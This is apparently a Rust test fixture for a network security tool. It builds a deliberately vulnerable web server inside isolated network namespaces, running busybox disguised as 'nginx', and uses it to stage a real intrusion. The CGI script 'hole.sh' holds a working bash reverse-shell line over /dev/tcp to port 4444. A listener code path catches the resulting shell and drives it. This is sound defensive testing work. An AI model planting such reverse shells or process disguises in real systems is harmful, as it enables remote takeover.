//! A real intrusion between two private networks: a web server with a hole, and the shell that it gives away.

use std::io::{ErrorKind, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use super::network::{HOST, Network, STRANGER};
use super::wait_for;

/// busybox's web server under the name of nginx, with one CGI program that calls the stranger with a shell.
pub struct WebServer {
    /// Removed after the server, which lies in it.
    _directory: tempfile::TempDir,
    child: Child,
}

impl WebServer {
    pub fn start(host: &Network) -> Self {
        Self::start_calling(host, STRANGER)
    }

    /// One whose hole calls this address.
    pub fn start_calling(host: &Network, stranger: &str) -> Self {
        let directory = tempfile::Builder::new().prefix("bartizan-web-").tempdir().unwrap();
        let nginx = directory.path().join("nginx");
        let busybox = ["/usr/bin/busybox", "/bin/busybox"].into_iter().find(|path| std::path::Path::new(path).is_file()).unwrap();
        std::fs::copy(busybox, &nginx).unwrap();
        let cgi = directory.path().join("cgi-bin");
        std::fs::create_dir(&cgi).unwrap();
        let hole = cgi.join("hole.sh");
        let call = format!(
            "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nexec bash -c 'exec 3<>/dev/tcp/{stranger}/4444 && exec sh <&3 >&3 2>&3'\n"
        );
        std::fs::write(&hole, call).unwrap();
        std::fs::set_permissions(&hole, std::fs::Permissions::from_mode(0o755)).unwrap();
        // `exec -a`: busybox finds its applet by the first argument, the kernel keeps the file's own name.
        let script = format!("exec -a busybox '{}' httpd -f -p 8080 -h '{}'", nginx.display(), directory.path().display());
        let mut command = Command::new("nsenter");
        command.arg(format!("--net={}", host.file())).args(["bash", "-c", &script]);
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).process_group(0);
        let server = Self { _directory: directory, child: command.spawn().unwrap() };
        wait_for("the web server", Duration::from_secs(5), || host.within(|| TcpStream::connect((HOST, 8080)).ok()), String::new);
        server
    }

    pub fn pid(&self) -> u32 {
        self.child.id()
    }
}

impl Drop for WebServer {
    fn drop(&mut self) {
        // The group holds the server and everything that grew from it; its leader is ours and not yet reaped.
        let group = nix::unistd::Pid::from_raw(self.child.id() as i32);
        let _ = nix::sys::signal::killpg(group, nix::sys::signal::Signal::SIGKILL);
        let _ = self.child.wait();
    }
}

/// The stranger's end of the stolen shell.
pub struct StolenShell(TcpStream);

/// The stranger asks for the hole and catches the shell that calls.
pub fn intrude(stranger: &Network) -> StolenShell {
    intrude_from(stranger, STRANGER)
}

/// The same from this address.
pub fn intrude_from(stranger: &Network, address: &str) -> StolenShell {
    let listener = stranger.within(|| TcpListener::bind((address, 4444)).unwrap());
    listener.set_nonblocking(true).unwrap();
    let mut request = stranger.within(|| TcpStream::connect((HOST, 8080)).unwrap());
    request.write_all(b"GET /cgi-bin/hole.sh HTTP/1.0\r\n\r\n").unwrap();
    let (stream, _) = wait_for("the shell to call home", Duration::from_secs(5), || listener.accept().ok(), String::new);
    stream.set_nonblocking(false).unwrap();
    stream.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
    // The request stays open with the CGI program; it ends when the shell does.
    std::mem::forget(request);
    StolenShell(stream)
}

impl StolenShell {
    /// What the shell prints for a line within `patience`; nothing when it does not answer: frozen, ended or cut off.
    pub fn type_line(&mut self, line: &str, patience: Duration) -> Option<String> {
        static TURN: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let turn = TURN.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        self.0.write_all(format!("{line}; echo end-$((1+{turn}))-end\n").as_bytes()).ok()?;
        let end = format!("end-{}-end", turn + 1);
        let (mut heard, mut chunk) = (Vec::new(), [0; 1024]);
        let deadline = Instant::now() + patience;
        while Instant::now() < deadline && heard.len() < 65536 {
            match self.0.read(&mut chunk) {
                Ok(0) => return None,
                Ok(length) => heard.extend_from_slice(&chunk[..length]),
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                Err(_) => return None,
            }
            let text = String::from_utf8_lossy(&heard);
            if let Some((printed, _)) = text.split_once(&end) {
                // What an earlier, unanswered line printed may stand before it.
                return Some(printed.lines().last().unwrap_or_default().trim().to_owned());
            }
        }
        None
    }
}
